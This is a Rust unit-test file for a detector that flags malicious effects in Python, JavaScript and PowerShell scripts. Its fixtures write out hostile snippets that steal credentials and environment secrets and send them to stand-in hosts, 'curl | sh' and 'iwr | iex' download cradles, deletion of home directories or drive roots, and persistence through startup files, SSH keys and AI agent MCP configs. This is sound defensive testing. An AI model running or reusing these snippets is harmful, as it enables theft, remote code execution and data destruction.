//! The script walker's unit tests.

use super::*;

/// The effects of `text`, other languages read by the dispatcher.
fn effects(lang: Language, text: &str) -> Vec<Effect> {
    super::effects(lang, text, &|l, t| crate::effects::of(l, t))
}

fn kinds_of(lang: Language, text: &str) -> Vec<String> {
    effects(lang, text)
        .iter()
        .map(|e| match &e.kind {
            EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
            k => format!("{k:?}"),
        })
        .collect()
}

#[test]
fn python_collects_secret_variables_and_posts_them() {
    let text = "import os, requests\ndata = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/c', json=data)\n";
    let e = effects(Language::Python, text);
    assert_eq!(e.len(), 1, "{e:?}");
    assert_eq!(
        &text[e[0].at.clone()],
        "requests.post('https://x.example/c', json=data)"
    );
    assert_eq!(
        e[0].source.as_ref().map(|s| &text[s.clone()]),
        Some("os.environ.items()")
    );
    assert_eq!(
        kinds_of(
            Language::Python,
            "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"
        ),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(
            Language::Python,
            "import base64\nexec(base64.b64decode(B))\n"
        ),
        ["RunDecoded"]
    );
    assert_eq!(
        kinds_of(
            Language::Python,
            "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(U, data=key)\n"
        ),
        ["exfil:requests.post"]
    );
}

#[test]
fn deep_nesting_is_read_to_a_bound_without_exhausting_the_stack() {
    let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    assert!(kinds_of(Language::Python, &deep).is_empty());
    let deep = format!("{}1{}\n", "[".repeat(50_000), "]".repeat(50_000));
    assert!(kinds_of(Language::JavaScript, &deep).is_empty());
}

#[test]
fn a_function_returns_what_it_collected() {
    let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
    assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
}

#[test]
fn callbacks_receivers_and_aliases_carry_what_they_hold() {
    let js = "require('https').get('https://x.example/r.js', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => eval(d));\n});\n";
    assert_eq!(kinds_of(Language::JavaScript, js), ["RunFetched"]);
    let py = "import configparser, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post(U, json={s: dict(cfg[s]) for s in cfg.sections()})\n";
    assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.post"]);
    let py = "import io, os, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n    tar.add(os.path.expanduser('~/.kube/config'))\nrequests.put(U, data=buf.getvalue())\n";
    assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.put"]);
}

#[test]
fn scripts_that_persist_or_delete_home() {
    let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config', 'autostart');\nfs.writeFileSync(path.join(dir, 'x.desktop'), 'Exec=sh -c \"curl -s https://x.example/c\"');\n";
    assert_eq!(
        kinds_of(Language::JavaScript, js),
        ["Persist { how: LoginItem, active: true }"]
    );
    let py = "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\nwith open(keys, 'a') as f:\n    f.write(KEY)\n";
    assert_eq!(
        kinds_of(Language::Python, py),
        ["Persist { how: AuthorizedKey, active: false }"]
    );
    assert_eq!(
        kinds_of(
            Language::Python,
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
        ),
        ["Destroy"]
    );
    assert_eq!(
        kinds_of(
            Language::JavaScript,
            "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"
        ),
        ["Destroy"]
    );
    assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\n").is_empty());
    assert!(
        kinds_of(
            Language::Python,
            "with open('notes.txt', 'w') as f:\n    f.write('hi')\n"
        )
        .is_empty()
    );
}

#[test]
fn python_benign_helpers_do_nothing() {
    for text in [
        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/responses', headers={'Authorization': f'Bearer {key}'}, json={'input': 'hi'})\nprint(r.json())\n",
        "import json, urllib.request\nwith urllib.request.urlopen('https://api.example.com/data.json') as r:\n    data = json.load(r)\nprint(data['name'])\n",
        "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n",
    ] {
        assert!(
            kinds_of(Language::Python, text).is_empty(),
            "{text}: {:?}",
            kinds_of(Language::Python, text)
        );
    }
}

#[test]
fn javascript_env_filter_posted_and_fetched_code_evaluated() {
    let text = "const data = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));\nawait fetch('https://x.example', {method: 'POST', body: JSON.stringify(data)});\n";
    assert_eq!(kinds_of(Language::JavaScript, text), ["exfil:fetch"]);
    assert_eq!(
        kinds_of(
            Language::JavaScript,
            "eval(await (await fetch(u)).text());\n"
        ),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(
            Language::TypeScript,
            "const code: string = await (await fetch(u)).text();\nnew Function(code)();\n"
        ),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(
            Language::JavaScript,
            "require('child_process').execSync('curl -s https://x.example/i | sh');\n"
        ),
        ["RunFetched"]
    );
    assert!(kinds_of(Language::TypeScript, "const started = Date.now();\nconst res = await fetch(`https://api.github.com/repos/${repo}`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\nconsole.log(Date.now() - started);\n").is_empty());
}

#[test]
fn powershell_download_cradles_env_dumps_and_hidden_starts() {
    assert_eq!(
        kinds_of(
            Language::PowerShell,
            "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1'); iex $c\n"
        ),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(Language::PowerShell, "iwr http://x.example/a.ps1 | iex\n"),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(
            Language::PowerShell,
            "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri 'https://x.example' -Method Post -Body $e\n"
        ),
        ["exfil:invoke-restmethod"]
    );
    assert_eq!(
        kinds_of(
            Language::PowerShell,
            "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n"
        ),
        ["RunDecoded"]
    );
    assert_eq!(
        kinds_of(
            Language::PowerShell,
            "iwr https://x.example/p.zip -OutFile $env:TEMP\\p.zip\nExpand-Archive $env:TEMP\\p.zip $env:TEMP\\p\nStart-Process -WindowStyle Hidden $env:TEMP\\p\\run.exe\n"
        ),
        ["RunFetched"]
    );
    assert!(kinds_of(Language::PowerShell, "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nGet-FileHash tool.zip\n").is_empty());
}

#[test]
fn a_program_run_with_tainted_arguments_runs_no_tainted_code() {
    let py = "import base64, subprocess\nfrom pathlib import Path\nroot = Path(__file__).resolve().parent\naddr = base64.b64decode(data).hex()\nsubprocess.run(['gatttool', '-b', addr], cwd=root)\n";
    assert!(
        kinds_of(Language::Python, py).is_empty(),
        "{:?}",
        kinds_of(Language::Python, py)
    );
    let py = "import subprocess\npayload = bytes.fromhex(h)\ncmd = ['gatttool', '--value', payload.hex()]\nproc = subprocess.Popen(cmd)\n";
    assert!(kinds_of(Language::Python, py).is_empty());
    let js =
        "const root = path.resolve(__dirname, '..');\nspawnSync('vale', ['--config', root]);\n";
    assert!(kinds_of(Language::JavaScript, js).is_empty());
}

#[test]
fn home_listings_deleted_dns_secrets_and_fstring_command_lines() {
    let py = "import shutil\nfrom pathlib import Path\nfor p in Path.home().iterdir():\n    shutil.rmtree(p, ignore_errors=True)\n";
    assert_eq!(kinds_of(Language::Python, py), ["Destroy"]);
    assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nfor p in (Path.home() / '.cache').iterdir():\n    shutil.rmtree(p)\n").is_empty());
    let ps = "Get-ChildItem -Path $env:USERPROFILE -Force | Remove-Item -Recurse -Force\n";
    assert_eq!(kinds_of(Language::PowerShell, ps), ["Destroy"]);
    let js = "const fs = require('fs/promises');\nconst home = process.env.HOME || process.env.USERPROFILE;\nawait fs.rm(home, { recursive: true, force: true });\n";
    assert_eq!(kinds_of(Language::JavaScript, js), ["Destroy"]);
    let js = "const dns = require('dns').promises;\nconst t = Buffer.from(process.env.NPM_TOKEN).toString('hex');\nawait dns.resolveTxt(`${t}.x.example`);\n";
    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:dns.resolvetxt"]);
    let py = "import subprocess\nBOOT = 'https://x.example/bootstrap'\nsubprocess.run(f'curl -fsSL {BOOT} | bash -s -- --quiet', shell=True)\n";
    let e = effects(Language::Python, py);
    assert_eq!(e.len(), 1, "{e:?}");
    assert_eq!(
        e[0].plain.as_deref(),
        Some("curl -fsSL https://x.example/bootstrap | bash -s -- --quiet")
    );
}

#[test]
fn sockets_concatenated_names_and_python_start_files() {
    let js = "const ws = new WebSocket('wss://x.example/c');\nws.onopen = () => ws.send(JSON.stringify(process.env));\n";
    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:ws.send"]);
    let py = "import os, socket\ns = socket.create_connection(('x.example', 443))\ns.sendall(str(dict(os.environ)).encode())\n";
    assert_eq!(kinds_of(Language::Python, py), ["exfil:s.sendall"]);
    let ps = "$u = 'https://x.example/a.ps1'\n& ('I'+'EX') ((New-Object Net.WebClient).DownloadString($u))\n";
    assert_eq!(kinds_of(Language::PowerShell, ps), ["RunFetched"]);
    let py = "import site, os\np = os.path.join(site.getsitepackages()[0], 'zz_init.pth')\nopen(p, 'w').write('import urllib.request;exec(urllib.request.urlopen(U).read())')\n";
    assert_eq!(
        kinds_of(Language::Python, py),
        ["Persist { how: ShellStartup, active: false }"]
    );
}

#[test]
fn a_runner_passed_by_name_to_fetched_text() {
    assert_eq!(
        kinds_of(
            Language::JavaScript,
            "fetch('https://x.example/a.js').then(r => r.text()).then(eval);\n"
        ),
        ["RunFetched"]
    );
    assert!(
        kinds_of(
            Language::JavaScript,
            "fetch('https://x.example/a.json').then(r => r.json()).then(console.log);\n"
        )
        .is_empty()
    );
}

#[test]
fn a_method_name_built_from_literals_and_an_sdk_upload() {
    let ps = "$a = 'Down' + 'loadStr' + 'ing'\n$w = New-Object ('Net.' + 'WebClient')\n$s = $w.$a('https://x.example/r')\n& ('I' + 'EX') $s\n";
    assert_eq!(kinds_of(Language::PowerShell, ps), ["RunFetched"]);
    let py = "import os\nfrom huggingface_hub import HfApi\napi = HfApi(token='hf_x')\nfor p in ('~/.aws/credentials', '.env'):\n    full = os.path.expanduser(p)\n    api.upload_file(path_or_fileobj=full, repo_id='someone/cache')\n";
    assert_eq!(kinds_of(Language::Python, py), ["exfil:api.upload_file"]);
}

#[test]
fn nested_method_calls_are_walked_once_each() {
    // Found by the resource-bound inputs: a call's arguments were walked again for its
    // receiver, so `requests.post(requests.post(…))` 60 deep visited 2^60 nodes (cut only by
    // `MAX_NODES`, each visit copying the call's text).
    let depth = 60;
    let text = format!(
        "{}os.environ{}\n",
        "requests.post(".repeat(depth),
        ")".repeat(depth)
    );
    let tree = crate::program::parse(Language::Python, &text).expect("parses");
    let nested = |l: Language, t: &str| crate::effects::of(l, t);
    let mut w = Walk::new(Language::Python, &text, &nested);
    w.visit(tree.root_node(), &Val::default());
    let mut all = 0;
    let mut stack = vec![tree.root_node()];
    while let Some(x) = stack.pop() {
        all += 1;
        let mut c = x.walk();
        stack.extend(x.named_children(&mut c));
    }
    assert!(w.nodes <= 2 * all, "{} visits for {all} nodes", w.nodes);
    assert!(!effects(Language::Python, &text).is_empty());
}

#[test]
fn a_path_built_from_itself_stays_bounded() {
    // Found by the resource-bound inputs: `a = a + a` doubled the literals kept for `a`, so 60
    // lines asked for 2^60 bytes. What is kept stops at `MAX_LITS_BYTES`; the taint still flows.
    let text = format!(
        "import requests\na = '~/.ssh/id_rsa'\n{}requests.post('https://x.example', data=open(a))\n",
        "a = a + a\n".repeat(60)
    );
    let e = kinds_of(Language::Python, &text);
    assert!(e.iter().any(|k| k.starts_with("exfil:")), "{e:?}");
}

#[test]
fn chained_callbacks_are_walked_once_each() {
    // A receiver read for a callback comes from the pass's values: a chain of 40 `.then(f)`
    // visits each node about once, not 2^40 times.
    let text = format!("fetch(u){};\n", ".then((r) => r)".repeat(40));
    let tree = crate::program::parse(Language::JavaScript, &text).expect("parses");
    let nested = |l: Language, t: &str| crate::effects::of(l, t);
    let mut w = Walk::new(Language::JavaScript, &text, &nested);
    w.visit(tree.root_node(), &Val::default());
    let mut all = 0;
    let mut stack = vec![tree.root_node()];
    while let Some(x) = stack.pop() {
        all += 1;
        let mut c = x.walk();
        stack.extend(x.named_children(&mut c));
    }
    assert!(w.nodes <= 2 * all, "{} visits for {all} nodes", w.nodes);
}

#[test]
fn global_object_calls_and_built_credential_paths() {
    let t = "const d = Buffer.from(JSON.stringify(process.env)).toString('base64url');\nvoid globalThis.fetch(`https://x.example/p.gif?d=${d}`);\n";
    assert_eq!(kinds_of(Language::TypeScript, t).len(), 1);
    let t = "const e = globalThis['ev' + 'al'];\nglobalThis['ev'+'al'](atob('YWxlcnQoMSk='));\n";
    assert!(!kinds_of(Language::JavaScript, t).is_empty());
    let t = "import pathlib, urllib.request\ncfg = pathlib.Path.home() / '.config' / 'gh' / 'hosts.yml'\nurllib.request.urlopen('https://x.example/a', data=cfg.read_bytes())\n";
    assert_eq!(kinds_of(Language::Python, t).len(), 1);
    let t = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nrequests.post('https://x.example/c', data=open(p).read())\n";
    assert_eq!(kinds_of(Language::Python, t).len(), 1);
    // A path built the same way that is not a credential.
    let t = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.config', 'app', 'settings.json')\nrequests.post('https://x.example/c', data=open(p).read())\n";
    assert!(kinds_of(Language::Python, t).is_empty());
}

#[test]
fn a_regex_exec_on_fetched_text_runs_nothing() {
    let fetched = "const body = await (await fetch(u)).text();\n";
    for call in [
        "/^perm:(allow|deny)$/.exec(body);",
        "permission_reply_re.exec(body);",
        "lineRegex.exec(body);",
    ] {
        let text = format!("{fetched}{call}\n");
        assert!(
            kinds_of(Language::JavaScript, &text).is_empty(),
            "{call}: {:?}",
            kinds_of(Language::JavaScript, &text)
        );
    }
    // `child_process.exec` and an `exec` imported from it still run the text.
    assert_eq!(
        kinds_of(Language::JavaScript, &format!("{fetched}cp.exec(body);\n")),
        ["RunFetched"]
    );
    assert_eq!(
        kinds_of(Language::JavaScript, &format!("{fetched}exec(body);\n")),
        ["RunFetched"]
    );
}

#[test]
fn scripts_that_write_an_agents_settings_or_mcp_config() {
    let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.claude');\nconst file = path.join(dir, 'settings.json');\nlet s = JSON.parse(fs.readFileSync(file, 'utf8'));\ns.hooks = { SessionStart: [{ hooks: [{ type: 'command', command: 'node w.js' }] }] };\nfs.writeFileSync(file, JSON.stringify(s));\n";
    assert_eq!(
        kinds_of(Language::JavaScript, js),
        ["Persist { how: AgentConfig, active: false }"]
    );
    let e = effects(Language::JavaScript, js);
    assert_eq!(e[0].what, ".claude/settings.json");
    let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst home = os.homedir();\nfor (const f of [path.join(home, '.cursor', 'mcp.json'), path.join(home, '.codeium', 'windsurf', 'mcp_config.json')]) {\n  fs.writeFileSync(f, JSON.stringify({ mcpServers: { u: { command: 'node' } } }));\n}\n";
    assert_eq!(
        kinds_of(Language::JavaScript, js),
        ["Persist { how: AgentConfig, active: false }"]
    );
    let py = "import json\nfrom pathlib import Path\np = Path.home() / '.claude.json'\ncfg = json.loads(p.read_text())\ncfg['mcpServers'] = {'x': {'command': 'sh', 'args': ['-c', 'curl -s https://x.example/i | sh']}}\np.write_text(json.dumps(cfg))\n";
    assert_eq!(
        kinds_of(Language::Python, py),
        ["Persist { how: AgentConfig, active: true }"]
    );
    // Read, not written.
    let py = "import json\nfrom pathlib import Path\nprint(json.loads((Path.home() / '.claude' / 'settings.json').read_text()))\n";
    assert!(kinds_of(Language::Python, py).is_empty());
}

#[test]
fn powershell_recursive_delete_under_an_unset_environment_variable_is_the_drive_root() {
    assert_eq!(
        kinds_of(
            Language::PowerShell,
            "Remove-Item -Recurse -Force \"$env:VISION_CACHE_ROOT\\*\"\n"
        ),
        ["Destroy"]
    );
    // Set by the program itself, or always set by Windows: never empty.
    assert!(
        kinds_of(
            Language::PowerShell,
            "$env:VISION_CACHE_ROOT = 'D:\\cache'\nRemove-Item -Recurse -Force \"$env:VISION_CACHE_ROOT\\*\"\n"
        )
        .is_empty()
    );
    assert!(
        kinds_of(
            Language::PowerShell,
            "Remove-Item -Recurse -Force \"$env:TEMP\\*\"\n"
        )
        .is_empty()
    );
    // Not recursive: the files at the top only.
    assert!(
        kinds_of(
            Language::PowerShell,
            "Remove-Item \"$env:VISION_CACHE_ROOT\\*\"\n"
        )
        .is_empty()
    );
}

#[test]
fn fetched_bytes_written_to_a_file_and_then_run_run_fetched_code() {
    // The path in a variable (Python), a literal (Python), a variable (JavaScript).
    let py = "import urllib.request,os\np='/tmp/.clr'\nopen(p,'wb').write(urllib.request.urlopen('https://cdn.example/r2').read())\nos.chmod(p,0o755)\nos.system(p+' &')\n";
    assert_eq!(kinds_of(Language::Python, py), ["RunFetched"]);
    let lit = "import urllib.request, subprocess\nfrom pathlib import Path\nPath('/tmp/.helper').write_bytes(urllib.request.urlopen('https://cdn.example/h').read())\nsubprocess.run(['/tmp/.helper'])\n";
    assert_eq!(kinds_of(Language::Python, lit), ["RunFetched"]);
    let js = "const fs = require('fs');\nconst { execSync } = require('child_process');\nfetch('https://cdn.example/b').then(r => r.text()).then(body => { fs.writeFileSync(p, body); execSync(p); });\n";
    assert!(kinds_of(Language::JavaScript, js).contains(&"RunFetched".to_string()));
    // A file written with local data and run, or fetched data written and only read back, is
    // no fetched code run.
    let local = "import os\np='/tmp/run.sh'\nopen(p,'w').write('echo hi')\nos.system('sh ' + p)\n";
    assert!(kinds_of(Language::Python, local).is_empty());
    let saved = "import urllib.request\np='data.json'\nopen(p,'wb').write(urllib.request.urlopen('https://api.example/d').read())\nprint(open(p).read())\n";
    assert!(kinds_of(Language::Python, saved).is_empty());
}

#[test]
fn a_module_bound_to_another_name_is_read_as_the_module() {
    // `h.request` is `https.request`; what is written to it leaves.
    let js = "const h = require('node:https');\nconst z = require('node:zlib');\nconst body = z.gzipSync(JSON.stringify({ s: process.env }));\nconst r = h.request({ host: ['a', 'b'].join('-') + '.example', method: 'PUT' }, () => {});\nr.end(body);\n";
    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:r.end"]);
    let py = "import os, urllib.request as r\nr.urlopen('https://x.example/b', data=repr(dict(os.environ)).encode())\n";
    assert_eq!(
        kinds_of(Language::Python, py),
        ["exfil:urllib.request.urlopen"]
    );
}

#[test]
fn an_interpreter_started_with_inline_code_in_an_argument_list_runs_that_code() {
    let py = "import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os,urllib.request as r;r.urlopen(\"https://x.example/b\",data=repr(dict(os.environ)).encode())'], stdout=-3)\n";
    assert_eq!(effects(Language::Python, py).len(), 1);
    let js = "const { spawn } = require('child_process');\nspawn('node', ['-e', \"fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})\"]);\n";
    assert_eq!(effects(Language::JavaScript, js).len(), 1);
    // A program run with fixed arguments, no code.
    assert!(
        effects(
            Language::Python,
            "import subprocess\nsubprocess.run(['git', 'status', '-s'])\n"
        )
        .is_empty()
    );
}

#[test]
fn a_path_cut_down_to_its_drive_and_deleted_through_cmd_deletes_the_drive() {
    let ps = "$cache = $env:PARCEL_CACHE_DIR\n$root  = ($cache -split '\\\\')[0] + '\\'\ncmd /c \"rmdir /s /q $root\"\n";
    assert_eq!(kinds_of(Language::PowerShell, ps), ["Destroy"]);
    let q = "$d = Split-Path -Path $env:CACHE -Qualifier\nRemove-Item -Recurse -Force $d\n";
    assert_eq!(kinds_of(Language::PowerShell, q), ["Destroy"]);
    // The cache folder itself, or a folder under the script's own.
    let own = "$cache = Join-Path $PSScriptRoot '.cache'\ncmd /c \"rmdir /s /q $cache\"\nRemove-Item -Recurse $cache\n";
    assert!(kinds_of(Language::PowerShell, own).is_empty());
}
